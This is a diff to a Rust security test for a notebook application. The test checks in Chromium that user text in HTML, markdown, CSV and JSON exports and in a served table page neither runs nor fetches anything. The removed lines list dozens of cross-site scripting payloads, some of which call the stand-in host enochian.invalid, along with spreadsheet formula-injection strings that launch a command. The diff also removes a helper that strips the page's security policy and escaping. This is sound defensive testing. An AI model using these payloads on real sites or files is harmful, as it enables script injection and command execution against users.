@@ -13,71 +13,15 @@ use std::thread;
 use serde_json::Value;
 
 use crate::chromium::Chromium;
-use crate::figure::{Figure, Run};
+use crate::desk::files;
+use crate::desk::http::Served;
 use crate::notebook::Notebook;
-use crate::program::Program;
-
-pub(crate) const FIGURE: Figure =
-    Figure { number: 10, name: "payloads", protections: &["escaping", "policy"], measure };
+use crate::sample::short_or_whole;
 
 /// What leaves a mark where it runs: `RAN` becomes 1, or the address `http://enochian.invalid/` is asked for.
-const PAYLOADS: &[&str] = &[
-    "<script>RAN=1</script>",
-    "</script><script>RAN=1</script>",
-    "</title><script>RAN=1</script>",
-    "</style><script>RAN=1</script>",
-    "</textarea><script>RAN=1</script>",
-    "--><script>RAN=1</script>",
-    "]]><script>RAN=1</script>",
-    "\"><script>RAN=1</script>",
-    "'><script>RAN=1</script>",
-    "<script src=http://enochian.invalid/x.js></script>",
-    "<img src=x onerror=RAN=1>",
-    "<img src=http://enochian.invalid/x.png>",
-    "\" onmouseover=RAN=1 autofocus onfocus=RAN=1 x=\"",
-    "' onload='RAN=1' x='",
-    "<svg onload=RAN=1>",
-    "<svg><script>RAN=1</script></svg>",
-    "<svg><use href=http://enochian.invalid/x.svg#x />",
-    "<math><mtext><style><img src=x onerror=RAN=1></style>",
-    "<iframe srcdoc='<script>parent.RAN=1</script>'>",
-    "<iframe src=javascript:parent.RAN=1>",
-    "<object data=http://enochian.invalid/x>",
-    "<embed src=http://enochian.invalid/x>",
-    "<link rel=stylesheet href=http://enochian.invalid/x.css>",
-    "<base href=http://enochian.invalid/>",
-    "<meta http-equiv=refresh content='0;url=http://enochian.invalid/'>",
-    "<form action=http://enochian.invalid/><input autofocus onfocus=RAN=1>",
-    "<details open ontoggle=RAN=1>",
-    "<video><source onerror=RAN=1></video>",
-    "<body onload=RAN=1>",
-    "<style>@import 'http://enochian.invalid/x.css';</style>",
-    "</style><style>*{background:url(http://enochian.invalid/x)}",
-    ";background:url(http://enochian.invalid/x);x:",
-    "javascript:RAN=1",
-    "[link](javascript:RAN=1)",
-    "![image](http://enochian.invalid/x.png)",
-    "<javascript:RAN=1>",
-    "[x]: javascript:RAN=1",
-    "`<b>`</code><script>RAN=1</script>",
-    "&lt;script&gt;RAN=1&lt;/script&gt;",
-    "&#60;script&#62;RAN=1&#60;/script&#62;",
-    "\\u003cscript\\u003eRAN=1\\u003c/script\\u003e",
-    "\\x3cscript\\x3eRAN=1\\x3c/script\\x3e",
-    "{{ 7*7 }}{% raw %}<script>RAN=1</script>",
-    "${RAN=1}`${RAN=1}`",
-    "\";RAN=1;//",
-    "';RAN=1;//",
-    "\\\";RAN=1;//",
-    "<!--<script>RAN=1",
-    "=cmd|' /C calc'!A0",
-    "=HYPERLINK(\"http://enochian.invalid/\",\"x\")",
-    "+1+cmd|' /C calc'!A0",
-    "-1+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\"\n=1+1",
-    "＝1+1",
-];
+fn payloads() -> Vec<String> {
+    serde_json::from_str(include_str!("payloads.json")).unwrap()
+}
 
 /// The journals of a notebook, by the part of their names by which a command finds them, and the formats of their exports.
 const JOURNALS: [(&str, &[&str]); 4] = [
@@ -87,30 +31,26 @@ const JOURNALS: [(&str, &[&str]); 4] = [
     ("other", &["html", "markdown", "csv", "json"]),
 ];
 
-fn measure(run: &Run) -> String {
-    let Some(_) = Chromium::start() else { return "no Chromium is installed, so that nothing was tried".into() };
-    let weakened = run.is_without("escaping") || run.is_without("policy");
-    let every = if weakened { PAYLOADS.len() } else { run.times(30, 11, 1) as usize };
-    let tried: Vec<&str> = PAYLOADS.iter().copied().step_by(every).collect();
-    let of_part = |part: usize| -> u64 {
-        let Some(mut browser) = Chromium::start() else { return 0 };
-        let mine = tried.iter().enumerate().skip(part).step_by(2);
-        mine.map(|(number, payload)| Tried { payload, number, run }.does_nothing(&mut browser)).sum()
+#[test]
+fn nothing_that_people_write_runs_or_is_fetched_in_an_export_or_on_the_page() {
+    if Chromium::start().is_none() {
+        return;
+    }
+    let tried: Vec<String> = payloads().into_iter().step_by(short_or_whole(30, 1)).collect();
+    let of_part = |part: usize| {
+        let Some(mut browser) = Chromium::start() else { return };
+        for payload in tried.iter().skip(part).step_by(2) {
+            Tried { payload }.does_nothing(&mut browser);
+        }
     };
-    let pages = thread::scope(|scope| {
-        let other = scope.spawn(|| of_part(1));
-        of_part(0) + other.join().unwrap()
+    thread::scope(|scope| {
+        scope.spawn(|| of_part(1));
+        of_part(0);
     });
-    format!(
-        "{} payloads in {pages} exports and pages of the table, opened in Chromium: nothing ran, and nothing was fetched",
-        tried.len()
-    )
 }
 
 struct Tried<'p> {
     payload: &'p str,
-    number: usize,
-    run: &'p Run,
 }
 
 impl Tried<'_> {
@@ -120,13 +60,11 @@ impl Tried<'_> {
     }
 
     fn fails(&self, page: &str, why: &str) -> ! {
-        panic!("{:?} (payload {}) in {page}: {why}", self.payload, self.number)
+        panic!("{:?} in {page}: {why}", self.payload)
     }
 
-    /// Returns the number of exports and pages that were looked at.
-    fn does_nothing(&self, browser: &mut Chromium) -> u64 {
+    fn does_nothing(&self, browser: &mut Chromium) {
         let (wicked, harmless) = (notebook_with(self.payload), notebook_with(&self.harmless()));
-        let mut looked_at = 1;
         for (journal, formats) in JOURNALS {
             for format in formats {
                 let page = format!("the {format} of {journal}");
@@ -144,7 +82,6 @@ impl Tried<'_> {
                     "json" => self.is_kept(&page, &found),
                     _ => {}
                 }
-                looked_at += 1;
             }
         }
         let [found, right] = [&wicked, &harmless].map(|notebook| {
@@ -154,23 +91,18 @@ impl Tried<'_> {
             file
         });
         self.does_nothing_on_a_page(browser, "the html of the book", &found, &right);
-        let table = Program::start(wicked.folder());
+        let table = Served::start(&mut wicked.command(&["table", "--no-open"]));
         let addresses = JOURNALS.map(|(journal, _)| format!("#journal={journal}"));
         for hash in ["", "#search", "#game", "#game=other"].into_iter().map(str::to_owned).chain(addresses) {
             browser.visit(&format!("{}{hash}", table.address));
             browser.becomes("document.querySelectorAll('main *, body *').length > 5", true);
             browser.awaited("new Promise(done => setTimeout(done, 200))");
             self.is_idle(browser, &format!("the table {hash}"), &table.address);
-            looked_at += 1;
         }
-        looked_at
     }
 
     /// The page is made of what the harmless one is made of, and does nothing.
     fn does_nothing_on_a_page(&self, browser: &mut Chromium, page: &str, found: &Path, right: &Path) {
-        if page.starts_with("the html") {
-            self.weaken(found);
-        }
         browser.open(right, "");
         let elements = elements(browser);
         browser.open(found, "");
@@ -188,20 +120,6 @@ impl Tried<'_> {
         if links != "" {
             self.fails(page, &format!("there are links: {links}"));
         }
-    }
-
-    /// Undoes in a page what is to be taken away.
-    fn weaken(&self, page: &Path) {
-        let mut html = fs::read_to_string(page).unwrap();
-        if self.run.is_without("policy") {
-            html = html.replace("Content-Security-Policy", "Nothing");
-        }
-        if self.run.broken.is_some() {
-            for (written, meant) in [("&lt;", "<"), ("&gt;", ">"), ("&#x2f;", "/"), ("&quot;", "\""), ("&#x27;", "'")] {
-                html = html.replace(written, meant);
-            }
-        }
-        fs::write(page, html).unwrap();
     }
 
     fn is_idle(&self, browser: &mut Chromium, page: &str, own: &str) {
@@ -281,9 +199,9 @@ fn notebook_with(text: &str) -> Notebook {
     let question: String = keys.iter().map(|key| format!("{key} = {quoted}\n")).collect();
     fs::write(notebook.path("question.toml"), format!("{question}category = \"brother\"\n")).unwrap();
     let made = |name: &str, arguments: &[&str], input: &str| -> PathBuf {
-        let before = journals(&notebook);
+        let before = files(&notebook.journals(), "md");
         let output = notebook.run(arguments, input);
-        let new = journals(&notebook).into_iter().find(|path| !before.contains(path));
+        let new = files(&notebook.journals(), "md").into_iter().find(|path| !before.contains(path));
         let told = String::from_utf8_lossy(&output.stderr);
         let new = new.unwrap_or_else(|| panic!("{text:?}: no {name} was recorded: {told}"));
         let path = notebook.journals().join(format!("{name}.md"));
@@ -316,9 +234,4 @@ fn notebook_with(text: &str) -> Notebook {
         assert!(output.status.success(), "{text:?}: {}", String::from_utf8_lossy(&output.stderr));
     }
     notebook
-}
-
-fn journals(notebook: &Notebook) -> Vec<PathBuf> {
-    let files = fs::read_dir(notebook.journals()).unwrap().map(|entry| entry.unwrap().path());
-    files.filter(|path| path.extension().is_some_and(|ending| ending == "md")).collect()
 }
